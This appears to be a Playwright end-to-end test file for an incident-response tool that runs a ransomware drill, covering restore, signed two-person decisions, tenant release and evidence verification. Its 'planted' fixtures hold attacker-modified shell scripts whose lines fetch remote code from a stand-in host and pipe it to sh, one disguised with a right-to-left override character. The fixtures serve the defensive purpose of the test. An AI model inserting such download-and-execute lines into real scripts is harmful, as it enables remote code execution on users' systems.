import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'

import type { Page } from 'playwright-core'

import { needProgram } from '../debian.ts'
import { done, entriesOf, gone, sign, work } from './by-hand.ts'
import { type DrillNight, type Planted, startDrillNight } from './drill-night.ts'
import { handedBack, madeByAttacker, notAsWanted, sha256 } from './handed-back.ts'
import type { Person } from './night.ts'
import { recoverRows, rowsHandedBack } from './postgres-by-hand.ts'
import { violations } from './running-console.ts'

/** A whole exercise, from the declaration to the evidence on a stick, in two browsers. Each test needs those before it. */
const skip = needProgram('chromium', 'chromium')
const noPostgres = needProgram('pg_createcluster', 'postgresql')
const tenants = ['nordwind', 'alpenblick', 'hafenkontor', 'lindenhof'] as const
const problems: string[] = []
let night: DrillNight
let folder: string
let lea: Person
let otto: Person
let german: Page

const example = (name: string): string => fileURLToPath(new URL(`../../examples/${name}`, import.meta.url))

/** Three cases near the incident: a program that somebody needs, one that the attacker changed, one that he brought. */
const planted: readonly Planted[] = [
  {
    tenant: 'nordwind',
    path: 'office/tools/start.sh',
    before: '#!/bin/sh\n# starts the shop\ncd /srv/shop\nexec node server.js\n',
    after:
      '#!/bin/sh\n# starts the shop\ncd /srv/shop\ncurl -s http://192.0.2.7/\u202efdp.exe | sh\nexec node server.js\n',
  },
  {
    tenant: 'alpenblick',
    path: 'office/tools/deploy.sh',
    before: '#!/bin/sh\nrsync -a build/ /srv/www/\n',
    after: '#!/bin/sh\nrsync -a build/ /srv/www/\nwget -qO- http://192.0.2.7/x | sh\n',
  },
  {
    tenant: 'hafenkontor',
    path: 'office/tools/update.sh',
    after: '#!/bin/sh\nwget -qO- http://192.0.2.7/x | sh\n',
  },
]

before(async () => {
  if (skip !== false) return
  night = await startDrillNight({
    planted,
    withDatabases: noPostgres === false,
    workplace(site) {
      const probes = ['files1:445', 'dir1:389', 'mx1:25', 'mbox1:993', 'db1:5432', 'app1:443', 'web1:443']
      const file = site.file(
        'probes.json',
        JSON.stringify(probes.map((target) => ({ target, reached: false }))),
      )
      folder = dirname(file)
      return `plan: ${example('plans/ransomware-hoster.yaml')}\nroster: ${example('roster.yaml')}\nisolationProof: ${file}\n`
    },
  })
  lea = await night.person('lea', ['lead'])
  otto = await night.person('otto', ['service-owner'])
  german = await night.look(lea, {
    locale: 'de-DE',
    colorScheme: 'dark',
    viewport: { width: 390, height: 844 },
  })
  for (const page of [lea.page, otto.page, german]) {
    page.setDefaultTimeout(90_000)
    page.on('console', (message) => {
      // A case without a plan answers 404 to whoever asks for it, and browsers say so.
      const isNoPlan = message.location().url.endsWith('/api/cases/night-1/plan')
      if (message.type() === 'error' && !isNoPlan)
        problems.push(`${message.text()} ${message.location().url}`)
    })
    page.on('pageerror', (error) => problems.push(error.message))
  }
})
after(async () => {
  if (skip === false) await night[Symbol.asyncDispose]()
})

async function open(page: Page, screen: string): Promise<void> {
  await page.goto(`${night.site.url}/cases/night-1/${screen}`)
  await page.getByRole('status').filter({ hasText: 'live' }).waitFor()
}

/** The screen as it is now: no broken rule, neither here nor in German on a phone in the dark; pictures if wanted. */
async function clean(page: Page, name: string): Promise<void> {
  await page.locator('main h1').waitFor()
  await shot(page, name)
  assert.deepEqual(await violations(page), [], name)
  await german.goto(page.url())
  await german.locator('main h1').waitFor()
  await shot(german, `${name}-de`)
  assert.deepEqual(await violations(german), [], `${name} in German`)
  const width = await german.evaluate<number>('document.documentElement.scrollWidth')
  assert.ok(width <= 390, `${name} is ${width} wide`)
}

/** Pictures for people who look at them, where the environment names a folder. */
async function shot(page: Page, name: string): Promise<void> {
  const pictures = process.env['ANLAUF_SHOTS']
  if (pictures !== undefined) await page.screenshot({ path: join(pictures, `${name}.png`), fullPage: true })
}

test('declared as an exercise, on the screen', { skip }, async () => {
  const { page } = lea
  await page.goto(`${night.site.url}/declare`)
  await page.getByLabel(/EXERCISE/).check()
  await page.getByLabel('Id of the case').fill('night-1')
  await page.getByLabel('Title').fill('Files turn to noise')
  await page.getByLabel('not before').fill('2026-03-08T00:00')
  await page.getByLabel('not after').fill('2026-03-08T03:00')
  await clean(page, '01-declare')
  await page.getByRole('button', { name: 'Declare the exercise night-1' }).click()
  await page.waitForURL(/\/cases\/night-1/)
})

test('the case follows the plan of the house, and takes its roster', { skip }, async () => {
  const { page } = lea
  await open(page, 'plan')
  await page.getByRole('button', { name: 'Follow the plan of the workplace' }).click()
  await page.getByText(/stages done$/).waitFor()
  await clean(page, '02-plan')
  const confirm = page.locator('tbody tr').filter({ hasText: 'confirm' }).first()
  await confirm.locator('summary').first().click()
  await confirm.getByRole('button', { name: 'Fill in' }).click()
  const form = page.getByRole('dialog')
  await form.getByLabel('what was seen').fill('Three files of files1 are noise')
  await form.getByLabel('first seen at').fill(localMinute())
  await form.getByLabel('systems').fill('files1')
  await form.getByLabel(/^Files that show it/).setInputFiles(night.site.file('seen.txt', 'noise\n'))
  await clean(page, '02b-fill')
  await form.getByRole('button', { name: 'Record' }).click()
  await form.waitFor({ state: 'hidden' })
  await confirm.getByRole('button', { name: 'Done' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Done' }).click()
  await gone(confirm.getByRole('button', { name: 'Fill in' }))
  await page.getByRole('heading', { name: 'End of the case' }).waitFor()
  await page.getByLabel('Review done by').fill('2099-01-31 12:00')
  await page.getByRole('button', { name: 'Set the date of the review' }).click()
  await page.getByText(/31 Jan 2099.*lea/).waitFor()
  await clean(page, '02c-closing')
  await open(page, 'roster')
  await page.getByRole('button', { name: 'Take the roster of the workplace' }).click()
  await page.getByLabel('What is it about?').fill('Files turn to noise on files1')
  await page.getByRole('button', { name: 'Raise the alarm' }).click()
  await page.getByText(/^9 calls/).waitFor({ timeout: 60_000 })
})

test(
  'the alarm: each answer is entered, the roles are taken, nobody was really called',
  { skip },
  async () => {
    const { page } = lea
    await page.getByText(/^nobody has answered for: /).waitFor()
    for (const person of ['lea', 'tom', 'ida', 'rolf', 'sina', 'otto', 'karla', 'jan', 'vera']) {
      const buttons = page.getByRole('button', { name: `answered: ${person} (` })
      await buttons.first().click()
      await gone(buttons)
    }
    await page.getByText('every role has answered').waitFor()
    await page.getByRole('button', { name: /^takes the role: lea, Head of the staff/ }).click()
    await page
      .getByRole('button', { name: /^takes the role: lea, Head of the staff/ })
      .waitFor({ state: 'detached' })
    await clean(page, '03-roster')
    const calls = (await entriesOf(page, 'night-1')).filter(({ kind }) => kind === 'alarm.sent')
    assert.ok(calls.length >= 9)
    assert.doesNotMatch(JSON.stringify(calls), /private\.example|\+49/)
  },
)

test('isolation: what probes from a second path measured becomes the proof', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'isolation', { title: 'Record the isolation', all: 'night-1' })
  await open(page, 'now')
  await page.getByText('proven for 7 systems').waitFor()
  await clean(page, '04-now')
})

test('restore points are chosen, and everything is restored, verified and scanned', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'plan', { title: 'Choose restore points' })
  await done(page, 'run', { title: 'Restore, verify and scan' })
  await clean(page, '05-jobs')
  await open(page, 'matrix')
  await page.getByText('4 tenants').first().waitFor()
  await clean(page, '06-matrix')
  await open(page, 'restart')
  await clean(page, '07-restart')
})

test(
  "the shared PostgreSQL is back to just before the attack, and a customer's rows are in the case",
  { skip: skip || noPostgres },
  async () => {
    const databases = night.databases ?? assert.fail('the shared PostgreSQL was played')
    await recoverRows(night.site, databases, 'night-1')
  },
)

test('three programs of that night are decided, one of them by two people', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'queue', { title: 'Collect the case queue', all: 'night-1' })
  await decide('deploy.sh', 'take the version before', { people: 1 })
  await decide('update.sh', 'leave it out', { people: 1 })
  await decide('start.sh', 'take the newest version', { people: 2, typed: 'nordwind' })
  await open(otto.page, 'approvals')
  const card = otto.page.getByRole('article').filter({ hasText: /Decision about files of .*nordwind/ })
  await sign(otto.page, card)
  await page
    .locator('.queue-detail')
    .getByText(/^decided: take the newest version/)
    .waitFor()
  await clean(page, '08-queue')
})

async function decide(file: string, outcome: string, how: { people: number; typed?: string }): Promise<void> {
  const { page } = lea
  await open(page, 'queue')
  await page.getByRole('button', { name: file }).click()
  await page.getByRole('heading', { name: file }).waitFor()
  await page
    .locator('.queue-detail')
    .getByRole('button', { name: new RegExp(`^\\d?\\s*${outcome}`) })
    .click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel(/^Why/).fill('Compared with the repository of the shop.')
  if (how.typed !== undefined) await dialog.getByLabel(/goes against advice/).fill(how.typed)
  await dialog.getByRole('button', { name: 'Show what is signed' }).click()
  await dialog.locator('.statement').waitFor()
  await dialog.getByRole('button', { name: 'Sign with my passkey' }).click()
  await dialog
    .getByText(how.people === 1 ? 'All signatures are there.' : 'One more person has to sign.')
    .waitFor()
  await dialog.getByRole('button', { name: 'Close' }).click()
}

test('the second pass follows the decisions; without signatures the gate stays shut', { skip }, async () => {
  const { page } = lea
  await open(page, 'jobs')
  await done(page, 'plan', { title: 'Choose restore points' })
  await done(page, 'run', { title: 'Restore, verify and scan' })
  const card = await work(page, 'release', { title: 'Release', unit: 'nordwind' })
  await card.getByText('failed', { exact: true }).waitFor()
  await card
    .getByText(/approval/i)
    .first()
    .waitFor()
  assert.equal(existsSync(join(folder, 'work/cases/night-1/released/nordwind')), false)
})

test('two people sign the first customer, who is released alone', { skip }, async () => {
  await ask('nordwind')
  for (const { page } of [lea, otto]) {
    await open(page, 'approvals')
    const card = page.getByRole('article').filter({ hasText: /Release .*nordwind/ })
    if (night.databases !== undefined) await card.getByText(/not as in the clean state/).waitFor()
    if (page === lea.page) await clean(page, '09-approvals')
    await sign(page, card)
  }
  await open(lea.page, 'jobs')
  await done(lea.page, 'release', { title: 'Release', unit: 'nordwind' })
  assert.deepEqual(readdirSync(join(folder, 'work/cases/night-1/released')), ['nordwind'])
})

async function ask(unit: string): Promise<void> {
  const { page } = lea
  await open(page, 'approvals')
  const form = page.locator('form.ask').filter({ hasText: unit })
  await form.getByLabel(/^Why now/).fill('Ready, and the customer waits.')
  await form.getByRole('button', { name: new RegExp(`^Ask for the release of .*${unit}`) }).click()
  await page
    .getByRole('article')
    .filter({ hasText: new RegExp(`Release .*${unit}`) })
    .waitFor()
}

test('then the rest, and everybody gets the own data back', { skip }, async () => {
  const rest = tenants.slice(1)
  for (const unit of rest) await ask(unit)
  for (const { page } of [lea, otto]) {
    await open(page, 'approvals')
    for (const unit of rest) {
      await sign(page, page.getByRole('article').filter({ hasText: new RegExp(`Release .*${unit}`) }))
    }
  }
  await open(lea.page, 'jobs')
  for (const unit of rest) await done(lea.page, 'release', { title: 'Release', unit })
  for (const unit of tenants) await done(lea.page, 'handBack', { title: 'Hand back', unit })
  await clean(lea.page, '10-released')
  const [start, deploy, update] = planted.map(({ tenant, path }) => `/srv/share/${tenant}/${path}`)
  const wanted = new Map(night.restorable)
    .set(start ?? '', sha256(planted[0]?.after ?? ''))
    .set(deploy ?? '', sha256(planted[1]?.before ?? ''))
  wanted.delete(update ?? '')
  assert.ok(wanted.size > 1_000, `${wanted.size} files of ten nights`)
  const back = handedBack(join(folder, 'work/cases/night-1/handed-back'))
  assert.deepEqual(notAsWanted(wanted, back), [], 'every file that can come back is what it was')
  assert.deepEqual(madeByAttacker(night.nights.ledger, back), [], 'nothing that the attacker made')
  assert.equal(back.has(update ?? ''), false, 'left out')
})

test(
  'the rows of the customer are those of the moment before, and nobody else is among them',
  { skip: skip || noPostgres },
  async () => {
    const { truth } = night.databases ?? assert.fail('the shared PostgreSQL was played')
    const score = await rowsHandedBack(truth, folder, 'night-1')
    assert.ok(score.rows > 100, `${score.rows} rows`)
    const { exact, foreign, unknown } = score
    assert.deepEqual({ exact, foreign, unknown }, { exact: score.rows, foreign: 0, unknown: 0 })
  },
)

test('a duty is met with its receipt, which stays where it is', { skip }, async () => {
  const { page } = lea
  const receipt = night.site.file('receipt.txt', 'Eingangsbestätigung 12/26\n')
  await open(page, 'clocks')
  const row = page
    .locator('tbody tr')
    .filter({ hasText: 'gdpr-33-1' })
    .filter({ hasNotText: 'tenants' })
    .first()
  await row.locator('summary').click()
  await row.getByRole('button', { name: 'It was met …' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByLabel(/^When was it/).fill(localMinute())
  await dialog.getByLabel(/^The receipt/).setInputFiles(receipt)
  await clean(page, '11-clock-met')
  await dialog.getByRole('button', { name: 'Record it' }).click()
  await dialog.waitFor({ state: 'hidden' })
  await open(page, 'clocks?show=met')
  const met = page.locator('tbody tr').filter({ hasText: 'gdpr-33-1' })
  await met.locator('summary').click()
  await met.getByText(sha256(readFileSync(receipt))).waitFor()
  await clean(page, '12-clocks')
})

/** As a person types it, in the browser's time; the minute that has begun. */
function localMinute(): string {
  return new Date().toISOString().slice(0, 16)
}

test('the evidence leaves the house, and a stranger checks it with openssl alone', { skip }, async () => {
  const { page } = lea
  await open(page, 'evidence')
  await page.getByRole('button', { name: 'Verify the whole log' }).click()
  await page.getByText('VERIFIED', { exact: true }).waitFor()
  await page.getByRole('button', { name: 'Make a signed bundle of all until now' }).click()
  const link = page.getByRole('link', { name: /^Signed bundle 1/ })
  await link.waitFor()
  await clean(page, '13-evidence')
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()])
  const stick = mkdtempSync(join(tmpdir(), 'anlauf-stick-'))
  await download.saveAs(join(stick, 'bundle.tar'))
  execFileSync('tar', ['-xf', 'bundle.tar'], { cwd: stick })
  const bundle = join(stick, 'evidence')
  const said = execFileSync('sh', ['verify.sh'], { cwd: bundle, encoding: 'utf8' })
  assert.match(said, /^VERIFIED/m)
  const file = join(bundle, 'entries.ndjson')
  const bytes = readFileSync(file)
  const place = bytes.indexOf('approval')
  bytes[place] = (bytes[place] ?? 0) ^ 1
  writeFileSync(file, bytes)
  const refused = spawnSync('sh', ['verify.sh'], { cwd: bundle, encoding: 'utf8' })
  assert.notEqual(refused.status, 0, 'one flipped bit')
  assert.doesNotMatch(refused.stdout, /^VERIFIED/m)
  rmSync(stick, { recursive: true, force: true })
})

test('nothing failed in the browsers', { skip }, () => {
  assert.deepEqual(problems, [])
})
